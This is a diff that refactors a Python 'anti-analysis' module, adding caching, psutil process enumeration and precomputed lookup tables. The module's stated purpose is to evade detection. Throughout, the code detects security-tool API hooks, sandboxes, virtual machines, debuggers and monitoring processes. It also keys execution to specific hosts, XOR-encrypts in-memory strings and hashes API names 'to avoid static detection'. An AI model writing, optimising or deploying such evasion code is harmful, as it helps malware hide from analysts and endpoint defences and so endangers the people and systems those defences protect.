@@ -3,32 +3,107 @@ Anti-analysis techniques to evade detection and analysis
 """
 
 import os
+import re
 import sys
 import time
+import uuid
 import ctypes
+import ctypes.wintypes
 import platform
 import threading
 import random
-from typing import List, Callable
+import copy
+import functools
+import subprocess
+import psutil
+from typing import Any, Dict, List, Callable
+
+# Analysis-related environment variable markers, matched anywhere in the name
+_SUSPICIOUS_ENV_RE = re.compile('MALWARE_|SANDBOX_|ANALYSIS_|CUCKOO_')
+
+# DLLs injected by common analysis/sandbox tooling (lowercase basenames)
+_ANALYSIS_DLLS = frozenset(['api_log.dll', 'dir_watch.dll', 'pstorec.dll', 'vmcheck.dll'])
+
+MAX_PATH = 260
+
+
+@functools.lru_cache(maxsize=1)
+def _platform_string() -> str:
+    """platform.platform() never changes at runtime and costs uname calls"""
+    return platform.platform().lower()
+
+
+# Lazily evaluated environment values used by environmental_keying
+_ENV_KEY_GETTERS = {
+    'hostname': lambda: os.environ.get('COMPUTERNAME', '').lower(),
+    'username': lambda: os.environ.get('USERNAME', '').lower(),
+    'domain': lambda: os.environ.get('USERDOMAIN', '').lower(),
+    'cpu_count': os.cpu_count,
+    'platform': _platform_string
+}
+
+# Precomputed junk values for code_flow_obfuscation, built once at import
+_JUNK_VALUES = (
+    sum(i ** 2 for i in range(100)),
+    ''.join(chr(i) for i in range(65, 91)),
+    list(range(0, 1000, 2)),
+    {i: i ** 2 for i in range(50)}
+)
+
+
+@functools.lru_cache(maxsize=1024)
+def _djb2_hash(name: str) -> int:
+    """32-bit djb2 hash; API names are constants so results are cached"""
+    hash_value = 0
+    for code in map(ord, name):
+        hash_value = (hash_value * 33 + code) & 0xFFFFFFFF
+    return hash_value
+
 
 class AntiAnalysis:
     """General anti-analysis techniques"""
     
-    def __init__(self):
+    # Single-byte XOR lookup tables for bytes.translate, keyed by XOR key
+    _xor_tables: Dict[int, bytes] = {}
+    
+    def __init__(self, cache_ttl: float = 60.0):
         self.platform = platform.system()
+        self.cache_ttl = cache_ttl
+        self._cache: Dict[str, tuple] = {}
+        self._cache_lock = threading.Lock()
+        self._hook_targets = None
         
+        if self.platform == "Windows":
+            self.kernel32 = ctypes.windll.kernel32
+            self.psapi = ctypes.windll.psapi
+    
+    def _cached(self, name: str, func: Callable[[], Any]) -> Any:
+        """Return a copy of a memoized detection result younger than cache_ttl"""
+        now = time.monotonic()
+        with self._cache_lock:
+            entry = self._cache.get(name)
+            if entry and now - entry[0] < self.cache_ttl:
+                return copy.copy(entry[1])
+        
+        result = func()
+        with self._cache_lock:
+            self._cache[name] = (now, result)
+        return copy.copy(result)
+    
+    def clear_cache(self):
+        """Drop memoized detection results"""
+        with self._cache_lock:
+            self._cache.clear()
+    
     def detect_hooks(self) -> bool:
         """Detect API hooks commonly used by security tools"""
         if self.platform == "Windows":
             return self._detect_windows_hooks()
         return False
     
-    def _detect_windows_hooks(self) -> bool:
-        """Detect Windows API hooks"""
-        try:
-            import ctypes
-            from ctypes import wintypes
-            
+    def _resolve_hook_targets(self) -> List[int]:
+        """Resolve addresses of commonly hooked functions once"""
+        if self._hook_targets is None:
             # Check common hooked functions
             functions_to_check = [
                 ("kernel32.dll", "CreateProcessW"),
@@ -39,22 +114,30 @@ class AntiAnalysis:
                 ("wininet.dll", "InternetOpenW")
             ]
             
+            addresses = []
             for dll_name, func_name in functions_to_check:
                 try:
                     dll = ctypes.WinDLL(dll_name)
                     func = getattr(dll, func_name)
-                    func_addr = ctypes.cast(func, ctypes.c_void_p).value
-                    
-                    # Read first few bytes
-                    first_bytes = ctypes.string_at(func_addr, 5)
-                    
-                    # Check for common hook patterns
-                    # JMP instruction (E9) or PUSH+RET (68+C3)
-                    if first_bytes[0] == 0xE9 or (first_bytes[0] == 0x68 and first_bytes[4] == 0xC3):
-                        return True
-                        
+                    addresses.append(ctypes.cast(func, ctypes.c_void_p).value)
                 except:
                     continue
+            
+            self._hook_targets = addresses
+        
+        return self._hook_targets
+    
+    def _detect_windows_hooks(self) -> bool:
+        """Detect Windows API hooks"""
+        try:
+            for func_addr in self._resolve_hook_targets():
+                # Read first few bytes
+                first_bytes = ctypes.string_at(func_addr, 5)
+                
+                # Check for common hook patterns
+                # JMP instruction (E9) or PUSH+RET (68+C3)
+                if first_bytes[0] == 0xE9 or (first_bytes[0] == 0x68 and first_bytes[4] == 0xC3):
+                    return True
                     
         except:
             pass
@@ -67,18 +150,8 @@ class AntiAnalysis:
         total_checks = len(expected_values)
         
         for key, expected in expected_values.items():
-            actual = None
-            
-            if key == "hostname":
-                actual = os.environ.get('COMPUTERNAME', '').lower()
-            elif key == "username":
-                actual = os.environ.get('USERNAME', '').lower()
-            elif key == "domain":
-                actual = os.environ.get('USERDOMAIN', '').lower()
-            elif key == "cpu_count":
-                actual = os.cpu_count()
-            elif key == "platform":
-                actual = platform.platform().lower()
+            getter = _ENV_KEY_GETTERS.get(key)
+            actual = getter() if getter else None
             
             if actual and str(expected).lower() in str(actual).lower():
                 checks_passed += 1
@@ -88,6 +161,9 @@ class AntiAnalysis:
     
     def detect_monitoring_tools(self) -> List[str]:
         """Detect running monitoring/analysis tools"""
+        return self._cached('monitoring_tools', self._detect_monitoring_tools)
+    
+    def _detect_monitoring_tools(self) -> List[str]:
         detected_tools = []
         
         # Process names to check
@@ -113,53 +189,35 @@ class AntiAnalysis:
             'glasswire': 'Network Monitor'
         }
         
-        if self.platform == "Windows":
-            try:
-                import subprocess
-                output = subprocess.check_output("tasklist /fo csv", shell=True).decode()
-                
-                for proc_name, tool_name in monitoring_processes.items():
-                    if proc_name.lower() in output.lower():
-                        detected_tools.append(tool_name)
-                        
-            except:
-                pass
-                
-        elif self.platform in ["Linux", "Darwin"]:
-            try:
-                import subprocess
-                output = subprocess.check_output("ps aux", shell=True).decode()
-                
-                for proc_name, tool_name in monitoring_processes.items():
-                    if proc_name.lower() in output.lower():
-                        detected_tools.append(tool_name)
-                        
-            except:
-                pass
+        try:
+            # psutil enumerates processes natively (EnumProcesses / /proc)
+            # instead of spawning tasklist or ps through a shell
+            running = {
+                (proc.info['name'] or '').lower()
+                for proc in psutil.process_iter(['name'])
+            }
+        except Exception:
+            return detected_tools
+        
+        for proc_name, tool_name in monitoring_processes.items():
+            if any(proc_name in name for name in running):
+                detected_tools.append(tool_name)
         
         return detected_tools
     
     def code_flow_obfuscation(self, func: Callable) -> Callable:
         """Obfuscate code flow with junk operations"""
         def wrapper(*args, **kwargs):
-            # Random junk operations
-            junk_ops = [
-                lambda: sum([i**2 for i in range(random.randint(10, 100))]),
-                lambda: ''.join([chr(i) for i in range(65, 91)]),
-                lambda: [x for x in range(1000) if x % 2 == 0],
-                lambda: {i: i**2 for i in range(50)}
-            ]
-            
-            # Execute random junk operations
+            # Random junk reads
             for _ in range(random.randint(1, 3)):
-                random.choice(junk_ops)()
+                random.choice(_JUNK_VALUES)
             
             # Execute real function
             result = func(*args, **kwargs)
             
-            # More junk operations
+            # More junk reads
             for _ in range(random.randint(1, 3)):
-                random.choice(junk_ops)()
+                random.choice(_JUNK_VALUES)
             
             return result
             
@@ -170,8 +228,6 @@ class AntiAnalysis:
         if self.platform == "Windows":
             try:
                 # Check for int3 (0xCC) breakpoints
-                import ctypes
-                
                 # Get current function address
                 func_addr = id(self.detect_breakpoints)
                 
@@ -194,6 +250,9 @@ class AntiAnalysis:
     
     def detect_virtualization(self) -> dict:
         """Comprehensive virtualization detection"""
+        return self._cached('virtualization', self._detect_virtualization)
+    
+    def _detect_virtualization(self) -> dict:
         indicators = {
             'hypervisor': False,
             'vm_type': None,
@@ -205,7 +264,6 @@ class AntiAnalysis:
         # CPU checks
         try:
             if self.platform == "Windows":
-                import subprocess
                 cpu_info = subprocess.check_output("wmic cpu get name", shell=True).decode()
                 
                 if any(vm in cpu_info.lower() for vm in ['virtual', 'vmware', 'vbox', 'qemu', 'xen']):
@@ -226,7 +284,6 @@ class AntiAnalysis:
         
         # MAC address checks
         try:
-            import uuid
             mac = ':'.join(['{:02x}'.format((uuid.getnode() >> ele) & 0xff) 
                           for ele in range(0,8*6,8)][::-1])
             
@@ -256,18 +313,21 @@ class AntiAnalysis:
     
     def memory_guard(self, data: bytes, key: int = 0x55) -> bytes:
         """Simple XOR encryption for memory strings"""
-        return bytes([b ^ key for b in data])
+        table = self._xor_tables.get(key)
+        if table is None:
+            table = bytes(b ^ key for b in range(256))
+            self._xor_tables[key] = table
+        return data.translate(table)
     
     def api_hashing(self, api_name: str) -> int:
         """Hash API names to avoid static detection"""
-        hash_value = 0
-        for char in api_name:
-            hash_value = ((hash_value << 5) + hash_value) + ord(char)
-            hash_value = hash_value & 0xFFFFFFFF
-        return hash_value
+        return _djb2_hash(api_name)
     
     def detect_analysis_artifacts(self) -> List[str]:
         """Detect various analysis artifacts"""
+        return self._cached('analysis_artifacts', self._detect_analysis_artifacts)
+    
+    def _detect_analysis_artifacts(self) -> List[str]:
         artifacts = []
         
         # Check for analysis-related files
@@ -287,24 +347,21 @@ class AntiAnalysis:
                 artifacts.append(f"Analysis file: {filepath}")
         
         # Check for analysis-related environment variables
-        suspicious_env_vars = ['MALWARE_', 'SANDBOX_', 'ANALYSIS_', 'CUCKOO_']
-        for var in os.environ:
-            for suspicious in suspicious_env_vars:
-                if suspicious in var.upper():
-                    artifacts.append(f"Environment variable: {var}")
+        artifacts.extend(
+            f"Environment variable: {var}"
+            for var in os.environ
+            if _SUSPICIOUS_ENV_RE.search(var.upper())
+        )
         
         # Check loaded modules (Windows)
         if self.platform == "Windows":
             try:
-                import ctypes
-                import ctypes.wintypes
-                
                 # Get loaded modules
-                h_process = ctypes.windll.kernel32.GetCurrentProcess()
+                h_process = self.kernel32.GetCurrentProcess()
                 h_modules = (ctypes.wintypes.HMODULE * 1024)()
                 cb_needed = ctypes.wintypes.DWORD()
                 
-                ctypes.windll.psapi.EnumProcessModules(
+                self.psapi.EnumProcessModules(
                     h_process,
                     ctypes.byref(h_modules),
                     ctypes.sizeof(h_modules),
@@ -312,19 +369,24 @@ class AntiAnalysis:
                 )
                 
                 # Check for analysis DLLs
-                analysis_dlls = ['api_log.dll', 'dir_watch.dll', 'pstorec.dll', 'vmcheck.dll']
+                module_name = ctypes.create_unicode_buffer(MAX_PATH)
+                module_count = min(
+                    cb_needed.value // ctypes.sizeof(ctypes.wintypes.HMODULE),
+                    len(h_modules)
+                )
                 
-                for i in range(cb_needed.value // ctypes.sizeof(ctypes.wintypes.HMODULE)):
-                    module_name = ctypes.create_unicode_buffer(260)
-                    ctypes.windll.kernel32.GetModuleFileNameW(
+                for i in range(module_count):
+                    length = self.kernel32.GetModuleFileNameW(
                         h_modules[i],
                         module_name,
-                        ctypes.sizeof(module_name) // ctypes.sizeof(module_name[0])
+                        MAX_PATH
                     )
+                    if not length:
+                        continue
                     
-                    for dll in analysis_dlls:
-                        if dll.lower() in module_name.value.lower():
-                            artifacts.append(f"Analysis DLL: {dll}")
+                    dll = os.path.basename(module_name[:length]).lower()
+                    if dll in _ANALYSIS_DLLS:
+                        artifacts.append(f"Analysis DLL: {dll}")
                             
             except:
                 pass